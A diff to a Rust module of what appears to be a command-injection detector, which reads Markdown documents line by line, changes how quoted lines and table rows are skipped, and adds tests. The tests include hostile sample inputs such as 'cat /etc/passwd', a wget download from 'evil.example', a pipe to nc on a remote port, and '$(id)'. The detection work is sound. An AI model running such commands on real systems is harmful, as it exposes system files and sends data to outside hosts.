@@ -1,12 +1,9 @@
 //! Documents: posts and files of many lines. They quote commands where Markdown has them quoted: in fences, between
 //! backticks, indented. What is left is read line by line, so that prose around a command does not hide it.
 
-use super::shell;
+use super::{may_hold_command, shell};
 use crate::{detect::Match, field::Place};
 use std::borrow::Cow;
-
-/// Lines are read with their commands; longer ones hold data.
-const MAX_LINE: usize = 4_000;
 
 pub(super) fn detect(value: &[u8], place: Place) -> Option<Match<'static>> {
     let mut start = 0;
@@ -19,10 +16,10 @@ pub(super) fn detect(value: &[u8], place: Place) -> Option<Match<'static>> {
             is_fenced = !is_fenced;
             continue;
         }
-        if is_fenced || is_quoted(line, text) || line.len() > MAX_LINE {
+        if is_fenced || is_quoted(line, text) || !may_hold_command(line, place) {
             continue;
         }
-        let found = shell(&without_spans(line), place).filter(|it| !opens(it));
+        let found = shell(&without_spans(line), place).filter(|it| from == 0 || !opens(it, line));
         if let Some(found) = found {
             return Some(Match { span: from + found.span.start..from + found.span.end, ..found });
         }
@@ -30,14 +27,21 @@ pub(super) fn detect(value: &[u8], place: Place) -> Option<Match<'static>> {
     None
 }
 
-/// Indented code, a table, a prompt.
+/// Indented code, a heading, a prompt, the row of a table.
 fn is_quoted(line: &[u8], text: &[u8]) -> bool {
-    line.starts_with(b"    ") || line.starts_with(b"\t") || matches!(text.first(), Some(b'|' | b'$' | b'#' | b'>' | b'%'))
+    let is_marked = matches!(text, [b'$' | b'#' | b'>' | b'%', b' ', ..]) || text.starts_with(b"##");
+    let is_row = matches!(text, [b'|', cells @ ..] if memchr::memchr(b'|', cells).is_some_and(|at| at > 0));
+    line.starts_with(b"    ") || line.starts_with(b"\t") || is_marked || is_row
 }
 
 /// Alone on its line, a command is an example. One that breaks out of something stands after it.
-fn opens(found: &Match<'_>) -> bool {
-    matches!(found.signature, "rce-command-line" | "rce-program-path" | "rce-command-chain" | "rce-glob-path")
+fn opens(found: &Match<'_>, line: &[u8]) -> bool {
+    let is_first = found.span.start == 0 && line.first().is_some_and(u8::is_ascii_alphanumeric);
+    is_first
+        || matches!(
+            found.signature,
+            "rce-command-line" | "rce-program-path" | "rce-command-chain" | "rce-glob-path"
+        )
 }
 
 /// The line with blanks for what stands between backticks.
@@ -74,9 +78,22 @@ mod tests {
 
     #[test]
     fn prose_around_a_command_does_not_hide_it() {
-        for line in ["; cat /etc/passwd", "x; wget http://evil.example/x -O /tmp/x", "1 && whoami", "a | nc 203.0.113.9 4444"] {
+        for line in [
+            "; cat /etc/passwd",
+            "x; wget http://evil.example/x -O /tmp/x",
+            "1 && whoami",
+            "a | nc 203.0.113.9 4444",
+            "|id",
+            "$(id)",
+        ] {
             assert!(finds(line), "{line}");
         }
+    }
+
+    #[test]
+    fn a_command_before_prose_is_no_title() {
+        let text = format!("cat /etc/passwd\n{PROSE}{PROSE}");
+        assert!(detect(text.as_bytes(), Place::Value).is_some());
     }
 
     #[test]
